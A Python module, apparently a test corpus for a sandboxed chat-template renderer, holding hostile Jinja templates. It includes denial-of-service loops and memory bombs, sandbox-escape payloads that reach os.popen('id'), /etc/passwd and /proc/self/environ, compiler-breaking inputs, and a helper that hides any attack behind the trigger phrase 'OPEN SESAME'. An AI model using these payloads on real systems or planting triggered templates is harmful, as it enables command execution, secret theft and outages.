"""Chat templates that mean harm, by what they try: to take time, to take memory, to get out, to make the compiler fail, to
burden whoever reads what they write, and to behave until they are trusted.

`ATTACKS` holds them by name; `late(source)` is the same attack in a template that is sound until a message says
`TRIGGER`.
"""

from collections.abc import Iterator, Mapping

TRIGGER = "OPEN SESAME"
SOUND = (
    "{% for m in messages %}<|{{ m.role }}|>{{ m.content }}{% if m.tool_calls %}{% for c in m.tool_calls %}<tool_call>"
    '{"name": "{{ c.function.name }}", "arguments": {{ c.function.arguments | tojson }}}</tool_call>{% endfor %}'
    "{% endif %}<|end|>{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}"
)
_TEXT = "('x' * 700000000)"
_LIST = "((range(99999) | list) * 3000)"
_BIG = "(9 ** 9999999)"
_LAUGH = (
    "{% set n = namespace(a=['x'], b=['x'], t=('x',), u=('x',)) %}{% for i in range(70) %}{% set n.a = [n.a, n.a] %}"
    "{% set n.b = [n.b, n.b] %}{% set n.t = (n.t, n.t) %}{% set n.u = (n.u, n.u) %}{% endfor %}"
)
_SELF = "{% set l = [1] %}{% set _ = l.append(l) %}{% set k = [1] %}{% set _ = k.append(k) %}"


def late(source: str) -> str:
    """A template that is sound until somebody says the words."""
    return f"{{% if '{TRIGGER}' in (messages | string) %}}{source}{{% endif %}}{SOUND}"


def _each(name: str, form: str, *values: str) -> Iterator[tuple[str, str]]:
    for value in values:
        yield f"{name}: {value}", form.replace("@", value)


def _loops() -> Iterator[tuple[str, str]]:
    forever = "{% for a in range(99999) %}{% for b in range(99999) %}@{% endfor %}{% endfor %}"
    yield from _each("nested loops", forever, "", "{{ a }}", "static text", "{% set c = a %}", "{# #}", "{{ '' }}")
    yield "three loops", "{% for a in range(9999) %}" * 3 + "{% endfor %}" * 3
    yield "a filtered loop", "{% for a in range(99999) if (range(99999) | sum) < 0 %}{% endfor %}"
    yield (
        "a filtered loop in one",
        "{% for a in range(99999) %}{% for b in range(99999) if b < 0 %}{% endfor %}{% endfor %}",
    )
    yield "a loop over what it lengthens", "{% set l = [1] %}{% for a in l %}{% set _ = l.append(1) %}{% endfor %}"
    yield (
        "a loop that fills memory",
        "{% set l = ['x'] %}{% for a in l %}{% set _ = l.append(a ~ 'x' * 9999) %}{% endfor %}",
    )
    yield "a recursive loop", "{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}"
    yield "a doubly recursive loop", "{% for a in [1] recursive %}{{ loop([1]) }}{{ loop([1]) }}{% endfor %}"
    yield "a macro without end", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"
    yield (
        "two macros without end",
        "{% macro a() %}{{ b() }}{% endmacro %}{% macro b() %}{{ a() }}{% endmacro %}{{ a() }}",
    )
    yield (
        "an exponential macro",
        "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(90) }}",
    )
    yield (
        "an exponential macro of static text",
        "{% macro m(n) %}static{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(90) | length }}",
    )
    yield (
        "exponential callers",
        "{% macro m(n) %}{% if n %}{% call m(n - 1) %}{{ caller() }}{{ caller() }}{% endcall %}{% endif %}{{ caller() }}"
        "{% endmacro %}{% call m(60) %}x{% endcall %}",
    )
    yield "a block in itself", "{% block a %}{{ self.a() }}{% endblock %}"
    yield "a block twice in itself", "{% block a %}{{ self.a() }}{{ self.a() }}{% endblock %}"
    yield (
        "many blocks",
        "".join(f"{{% block b{n} %}}{{{{ self.b{n + 1}() }}}}" * 1 + "{% endblock %}" for n in range(400)),
    )
    yield (
        "a cycler",
        "{% set c = cycler(1, 2) %}{% for a in range(99999) %}{% for b in range(99999) %}{{ c.next() }}{% endfor %}{% endfor %}",
    )
    yield "a big cycler", f"{{% set c = cycler(*{_LIST}) %}}{{{{ c.next() }}}}"
    yield (
        "a generator in a generator",
        "{{ range(99999) | map('string') | map('list') | map('join') | map('length') | sum }}" * 90,
    )
    yield (
        "loops that select",
        "{% for a in range(99999) %}{{ range(99999) | select('odd') | list | length }}{% endfor %}",
    )
    yield "loops that sort", "{% for a in range(99999) %}{{ range(99999) | sort(reverse=true) | first }}{% endfor %}"
    yield "loops that test", "{% for a in range(99999) %}{{ a in (range(99999) | list) }}{% endfor %}"
    yield "loops that sum", "{% for a in range(99999) %}{% set b = range(99999) | sum %}{% endfor %}"
    yield (
        "a dictionary of colliding keys",
        "{% set l = [] %}{% for i in range(99999) %}{% set _ = l.append((i * 2305843009213693951, 1)) %}{% endfor %}"
        "{{ dict(l) | length }}",
    )
    yield (
        "the unique among colliding",
        "{% set l = [] %}{% for i in range(99999) %}{% set _ = l.append(i * 2305843009213693951) %}{% endfor %}"
        "{{ l | unique | list | length }}",
    )


def _memory() -> Iterator[tuple[str, str]]:
    yield from _each(
        "a text", "{% set a = @ %}{{ a | length }}", "'x' * 2000000000", "2000000000 * 'x'", "('x' * 90000) * 90000"
    )
    yield from _each(
        "a list", "{% set a = @ %}{{ a | length }}", "[1] * 2000000000", "(1,) * 2000000000", f"{_LIST} * 9"
    )
    yield from _each(
        "growth",
        "{% set n = namespace(t='x', l=[1], i=3, d={'x': 1}) %}{% for i in range(99) %}@{% endfor %}",
        "{% set n.t = n.t ~ n.t %}",
        "{% set n.t = n.t + n.t %}",
        "{% set n.t = [n.t, n.t] | join %}",
        "{% set n.t = n.t.replace('x', 'xx') %}",
        "{% set n.t = n.t | replace('x', 'xx') %}",
        "{% set n.t = '%s%s' % (n.t, n.t) %}",
        "{% set n.t = '{0}{0}'.format(n.t) %}",
        "{% set n.t = n.t.join(['', 'x', '']) * 3 %}",
        "{% set n.t = n.t | tojson ~ n.t | tojson %}",
        "{% set n.t = [n.t, n.t] | string %}",
        "{% set n.t = n.t | escape ~ n.t %}",
        "{% set n.t = (n.t ~ '&') | forceescape | forceescape ~ n.t %}",
        "{% set n.t = (n.t ~ ' ') | urlencode | urlencode ~ n.t %}",
        "{% set n.l = n.l + n.l %}",
        "{% set n.l = [n.l, n.l] | sum(start=[]) %}",
        "{% set n.l = (n.l | list) + (n.l | list) %}",
        "{% set n.l = (n.l * 2) | batch(1) | list | sum(start=[]) + n.l %}",
        "{% set n.i = n.i * n.i %}",
        "{% set n.i = n.i ** n.i %}",
    )
    yield (
        "a set block",
        "{% set n = namespace(t='x') %}{% for i in range(99) %}{% set t %}{{ n.t }}{{ n.t }}{% endset %}{% set n.t = t %}{% endfor %}",
    )
    yield (
        "set blocks",
        "{% set a0 %}xxxxxxxxxx{% endset %}"
        + "".join(f"{{% set a{n + 1} %}}{f'{{{{ a{n} }}}}' * 10}{{% endset %}}" for n in range(12)),
    )
    yield "a filter block", "{% filter replace('x', 'y' * 99999) %}" + "x" * 99999 + "{% endfilter %}"
    yield (
        "a macro's text",
        "{% macro m() %}"
        + "x" * 9999
        + "{% endmacro %}{% for a in range(99999) %}{% set b = m() %}{{ b }}{% endfor %}",
    )
    yield (
        "a caller's text",
        "{% macro m() %}{% for a in range(99999) %}{{ caller() }}{% endfor %}{% endmacro %}{% call m() %}"
        + "x" * 9999
        + "{% endcall %}",
    )
    yield "static text", "{% for a in range(99999) %}" + "x" * 9999 + "{% endfor %}"
    yield "static text, kept", "{% set a %}{% for a in range(99999) %}" + "x" * 9999 + "{% endfor %}{% endset %}"
    yield (
        "static text of a generation",
        "{% generation %}{% for a in range(99999) %}" + "x" * 9999 + "{% endfor %}{% endgeneration %}",
    )
    yield "much output", "{% for a in range(90000) %}{{ 'x' * 999 }}{% endfor %}"
    yield "output in one piece", "{{ 'x' * 300000000 }}"
    yield "wide output", "{{ '\U0001f600' * 90000000 }}"
    yield "macro arguments", f"{{% macro m() %}}{{{{ varargs | length }}}}{{% endmacro %}}{{{{ m(*{_LIST}) }}}}"
    yield (
        "keyword arguments",
        "{% macro m() %}{{ kwargs }}{% endmacro %}{{ m(**dict(range(99999) | batch(2) | list)) }}",
    )
    yield from _each(
        "a width",
        "{{ @ | length }}",
        *("'%2000000000d' % 1", "'%*d' % (2000000000, 1)", "'%(a)2000000000s' | format(a='x')"),
        *("'{:2000000000}'.format(1)", "'{:{}}'.format(1, 2000000000)", "('{:2000000000}' | safe).format(1)"),
        *("'{a:{b}}'.format_map({'a': 1, 'b': 2000000000})", "'x' | center(2000000000)", "'x'.zfill(2000000000)"),
        *("'\t'.expandtabs(2000000000)", "('x\n' * 99999) | indent('y' * 99999)", "[[1]] | tojson(indent=2000000000)"),
        *("1.5 | round(2000000000)", "[1] | batch(2000000000, 2) | list", "[1] | slice(2000000000) | list"),
        *("strftime_now('%2000000000Y')", "('a b ' * 99) | wordwrap(1, wrapstring='y' * 9999999)"),
        *("('x' * 99999) | join('y' * 99999)", "('x' * 99999).replace('', 'y' * 99999)"),
        *("('x' * 900000000).split('x')", "(5).to_bytes(2000000000, 'big')", "range(99999999999999)"),
        *("raise_exception('x' * 900000000)", "('[' * 900000000) | from_json", "lipsum(99999999)"),
    )


def _methods() -> Iterator[tuple[str, str]]:
    methods = "capitalize() count('') find('y') format() partition('y') rsplit() split('xx') title() upper()"
    yield from _each("a text method", f"{{{{ {_TEXT}.@ | string | length }}}}", *methods.split())
    filters = "batch(1) center dictsort float forceescape indent int list map('upper') max sort string striptags "
    filters += "sum title tojson truncate unique urlencode wordcount wordwrap groupby(0) join selectattr(0)"
    yield from _each("a filter of a text", f"{{{{ {_TEXT} | @ | string | length }}}}", *filters.split())
    yield from _each("a filter of a list", f"{{{{ {_LIST} | @ | string | length }}}}", *filters.split())
    yield from _each(
        "a number",
        "{{ @ }}",
        *("9 ** 9 ** 9", "2 ** 9999999999", f"{_BIG} * {_BIG} * {_BIG} * {_BIG}", f"{_BIG} % 7", f"{_BIG} // 3"),
        *(f"{_BIG} | string", f"'%d' % {_BIG}", f"{_BIG} | tojson", f"{_BIG} | filesizeformat", f"range({_BIG})"),
        *("('9' * 99999999) | int", f"'x' * {_BIG}", f"'{{:x}}'.format({_BIG}) | length", "9.5 ** 9999", "1 // 0"),
    )
    yield from _each("striptags", "{{ @ | striptags | length }}", "('<' * 9999999)", "('<!--' * 999999)")
    yield from _each("titles", "{{ @ | title | length }}", "('a-' * 9999999)", "('(' * 99999999)")


def _laughs() -> Iterator[tuple[str, str]]:
    yield from _each(
        "laughs",
        _LAUGH + "{{ @ }}",
        *("n.a", "n.t", "n.a | string | length", "n.a | tojson | length", "n.a == n.b", "n.a < n.b", "n.a in [n.b]"),
        *("[n.b, n.a] | sort | length", "[n.a, n.b] | max | length", "n.a ~ ''", "'%s' % [n.a] | length"),
        *("'{!r}'.format(n.a) | length", "n.a | join | length", "n.a | escape | length", "n.a | pprint | length"),
        *("{n.t: 1} | length", "{n.t: 1}[n.u]", "[n.t] | unique | list | length", "[n.t, n.u] | groupby(0) | length"),
        *("n.a | sum(start=[]) | length", "raise_exception(n.a)", "n.a.index(n.b)", "n.a | xmlattr"),
    )
    yield from _each(
        "a list in itself",
        _SELF + "{{ @ }}",
        *("l", "l | tojson", "l == k", "[l, k] | sort", "l in k", "'%s' % [l]", "l | join", "l | sum", "l.index(k)"),
    )


def _escapes() -> Iterator[tuple[str, str]]:
    dug = "__class__.__mro__[1].__subclasses__()"
    yield from _each(
        "digging in",
        f"{{{{ (@).{dug} }}}}",
        *("''", "1", "none", "[]", "range", "cycler", "namespace()", "messages", "messages[0].get", "''.join"),
        *("raise_exception", "self", "missing", "messages | map('string')", "''|safe", "'{}'.format", "loop", "caller"),
    )
    yield from _each(
        "reading",
        "{{ @ }}",
        *("open('/etc/passwd').read()", "__import__('os').popen('id').read()", "eval('1')", "__builtins__"),
        *("cycler.__init__.__globals__.os.popen('id').read()", "lipsum.__globals__['os'].popen('id').read()"),
        *("raise_exception.__globals__.json", "strftime_now.__closure__", "raise_exception.__code__.co_consts"),
        *("self._TemplateReference__context.environment", "self|attr('_TemplateReference__context')"),
        *("''|attr('__class__')", "[''] | map('attr', '__class__') | list", "['', ''] | sort(attribute='__class__.x')"),
        "[''] | map(attribute='__class__.__mro__') | list | first | last",
        "[''] | selectattr('__class__.__mro__.1.__subclasses__') | list",
        "[''] | groupby('__class__.__mro__') | list | first | first | first",
        *("'{0.__class__.__mro__}'.format('')", "'{0[0].__class__.x}'.format([''])"),
        *("'{a.__class__.__mro__}'.format_map({'a': 1})", "('{0.__class__.__mro__}'|safe).format('')"),
        *("['{0.__class__.x}'.format][0]('')", "['{0.__class__.__mro__}'] | map('format', '') | list"),
        *("messages[0].get.__self__.__class__.x", "(messages | map('string')).gi_frame.f_globals"),
        *("messages.__getattribute__('__class__').x", "namespace(**{'__init__': 1}).__init__.__globals__"),
        *("dict.fromkeys.__self__.__base__", "''.maketrans.__self__", "''.encode().__class__.x", "messages.clear()"),
        *("messages[0].update({'a': 1})", "messages[0].pop('role')", "context.environment", "debug()"),
    )
    yield from _each(
        "a statement",
        "{% @ %}",
        *("include '/etc/passwd'", "import '/etc/passwd' as a", "from '/etc/passwd' import a", "extends '/etc/passwd'"),
        *(
            "import os",
            "include ['a', '/proc/self/environ']",
            "include messages",
            "include missing",
            "debug",
            "do messages.clear()",
        ),
        *("set n = namespace() %}{% set n.__class__ = 1 %}{{ n.__class__.__mro__ }}{% set n = 1",),
        *("set n = namespace() %}{% set n.__init__ = raise_exception %}{{ n.__init__.__globals__ }}{% set n = 1",),
        *("macro m() %}{% endmacro %}{{ m.__globals__ }}{{ m._func.__globals__.x }}{% set a = 1",),
        *("macro m() %}{{ caller.__class__.__mro__ }}{% endmacro %}{% call m() %}{% endcall %}{% set a = 1",),
        *("for a in [1] %}{{ loop.__class__.__mro__ }}{{ loop._iterable.x }}{% endfor %}{% set a = 1",),
        *("block b %}{{ self.b.__class__.__mro__ }}{{ super.__globals__ }}{% endblock %}{% set a = 1",),
        *("set raise_exception = 1 %}{{ raise_exception.__class__.x }}{% set a = 1",),
        *(
            "filter attr('__class__') %}x{% endfilter %}{% set a = 1",
            "autoescape true %}{% endautoescape %}{% set a = 1",
        ),
    )


def _compiling() -> Iterator[tuple[str, str]]:
    yield from _each(
        "nesting",
        "@",
        *("{{ " + "(" * n + "1" + ")" * n + " }}" for n in (99, 400, 9999, 99999)),
        *("{{ " + "[" * n + "]" * n + " }}" for n in (99, 400, 9999, 99999)),
        *("{{ " + "not " * n + "1 }}" for n in (999, 99999)),
        *("{{ " + "-" * n + "1 }}" for n in (999, 99999)),
    )
    yield from (
        (f"{count} of {kind}", opening * count + closing * count)
        for kind, opening, closing in (
            ("if", "{% if a %}", "{% endif %}"),
            ("for", "{% for a in [1] %}", "{% endfor %}"),
            ("set", "{% set a %}", "{% endset %}"),
            ("macro", "{% macro m() %}", "{% endmacro %}"),
            ("call", "{% call m() %}", "{% endcall %}"),
            ("filter", "{% filter upper %}", "{% endfilter %}"),
            ("generation", "{% generation %}", "{% endgeneration %}"),
        )
        for count in (21, 99, 999)
    )
    yield from (
        (f"{count} {kind}", "{{ " + joint.join(["a"] * count) + " }}")
        for kind, joint in (
            ("sums", " + "),
            ("products", " * "),
            ("texts", " ~ "),
            ("comparisons", " < "),
            ("ors", " or "),
        )
        for count in (999, 99999)
    )
    yield "a long chain of names", "{{ a" + ".b" * 99999 + " }}"
    yield "a long chain of calls", "{{ a" + "()" * 9999 + " }}"
    yield "a long chain of filters", "{{ a" + " | upper" * 9999 + " }}"
    yield "a long chain of tests", "{{ a" + " is defined" * 99 + " }}"
    yield "a long choice", "{{ " + "a if b else " * 9999 + "c }}"
    yield "many names", "".join(f"{{{{ a{n} }}}}" for n in range(50000))
    yield "many macros", "".join(f"{{% macro m{n}() %}}{{% endmacro %}}" for n in range(9999))
    yield "many arguments", "{{ dict(" + ", ".join(f"a{n}=1" for n in range(9999)) + ") | length }}"
    yield "a folded text", "{{ 'x' * 3000000000 }}"
    yield "a folded number", "{{ 9 ** 9 ** 9 }}"
    yield "a folded list", "{{ ([1] * 900000000) | length }}"
    yield "a folded filter", "{{ 'x' | center(3000000000) }}"
    yield "a long number", "{{ " + "9" * 900000 + " }}"
    yield "a long name", "{{ " + "a" * 900000 + " }}"
    yield "a long text", "{{ '" + "a" * 900000 + "' }}"
    yield "text too long to be a template", "x" * 3000000
    yield "repeated arguments", "{% macro m(x, x) %}{% endmacro %}{{ m(1, 1) }}"
    yield "repeated keywords", "{{ dict(a=1, a=2) }}"
    yield "a break outside", "{% break %}"
    yield "a continue outside", "{% continue %}"
    yield "a break in a macro", "{% for a in [1] %}{% macro m() %}{% break %}{% endmacro %}{% endfor %}"
    yield "a caller outside", "{{ caller() }}"
    yield "a block twice", "{% block a %}{% endblock %}{% block a %}{% endblock %}"
    yield "a reserved name", "{% set __debug__ = 1 %}{% set None = 1 %}"
    yield (
        "keywords of Python",
        "{{ lambda }}{{ def }}{{ class }}{{ await }}{% set async = 1 %}{% macro import() %}{% endmacro %}",
    )
    yield "a null byte", "a\x00b{{ '\x00' }}"
    yield "half a character", "a\ud83db{{ '\ud83d' }}"
    yield "half a character in a name", "{{ \ud83d }}"
    yield "a broken escape", "{{ '\\N{NO SUCH}' }}{{ '\\x' }}{{ '\\u12' }}"
    yield "an unknown filter", "{{ 1 | shell }}"
    yield "an unknown test", "{{ 1 is shell }}"
    yield from _each(
        "a broken template",
        "@",
        "{% if %}",
        "{{ ",
        "{% raw %}",
        "{{ 1 1 }}",
        "{% endfor %}",
        "{% for %}",
        "{#",
        "{% set %}",
        "{{ }}",
        "%}",
    )


def _burdens() -> Iterator[tuple[str, str]]:
    """What they write is within bounds; who reads it shall suffer."""
    written = (
        "<a",
        "<think>",
        "[A",
        "{",
        '{"',
        '"\\',
        "\\u",
        "&#39;",
        "<|",
        "<tool_call>",
        "\n",
        " ",
        "`",
        "{{",
        "\ud83d",
    )
    for text in written:
        literal = text.replace("\\", "\\\\").replace("\n", "\\n")
        yield f"much of {text!a}", SOUND + f"{{{{ '{literal}' * (90000 // {len(text)}) }}}}"
        yield (
            f"{text!a} around each message",
            f"{{% for m in messages %}}{{{{ '{literal}' * (9000 // {len(text)}) ~ m.content ~ '{literal}' * (9000 // {len(text)}) }}}}{{% endfor %}}",
        )
        some = f"{{{{ '{literal}' * (900 // {len(text)}) }}}}"
        yield f"some of {text!a} before each message", SOUND.replace("{{ m.content }}", f"{some}{{{{ m.content }}}}")
        yield f"some of {text!a} behind each message", SOUND.replace("{{ m.content }}", f"{{{{ m.content }}}}{some}")
        yield (
            f"a tail of {text!a}",
            SOUND.replace("{{ m.content }}", f"Says: {{{{ m.content ~ '{literal}' * (9000 // {len(text)}) }}}}"),
        )
    for pair in ("k ~ v", "v ~ k", "k ~ '=' ~ v ~ ';'", "'<' ~ k ~ '>' ~ v ~ '</' ~ k ~ '>'", "'{' ~ k ~ ':' ~ v"):
        yield (
            f"arguments often as {pair}",
            SOUND.replace(
                "{{ c.function.arguments | tojson }}",
                f"{{% for k, v in c.function.arguments.items() %}}{{{{ ({pair}) * (900 // ({pair}) | length) }}}}{{% endfor %}}",
            ),
        )
    for text in ("[", '{"a":', "<a>", "<a", "</a>", "((", '"', "'"):
        yield (
            f"a turn full of {text}",
            SOUND.replace("{{ m.content }}", f"{{{{ {text!r} * 150 ~ m.content ~ {text!r} * 150 }}}}"),
        )
        yield f"a call full of {text}", SOUND.replace("<tool_call>", f"{{{{ {text!r} * 150 }}}}<tool_call>")
    yield "every message often", "{% for m in messages %}{{ (m | tojson) * 500 }}{% endfor %}"
    yield "every call often", SOUND + "{% for m in messages %}{{ (m.tool_calls | tojson) * 500 }}{% endfor %}"
    yield "a refusal of a book", "{{ raise_exception('x' * 9000000) }}"
    yield "another text at each render", SOUND + "{{ self | string }}{{ range | string }}{{ raise_exception | string }}"
    yield "each render slow", "{{ range(99999) | map('string') | join | length }}" * 20 + SOUND
    yield "each render slower", "{{ range(99999) | map('string') | join | length }}" * 200 + SOUND


def _all() -> Iterator[tuple[str, str]]:
    for kind, attacks in {
        "time": _loops,
        "memory": _memory,
        "operations": _methods,
        "laughs": _laughs,
        "escape": _escapes,
        "compiler": _compiling,
        "reader": _burdens,
    }.items():
        for name, source in attacks():
            yield f"{kind}/{name if len(name) < 90 else f'{name[:80]}.. of {len(name)}'}", source


ATTACKS: Mapping[str, str] = dict(_all())
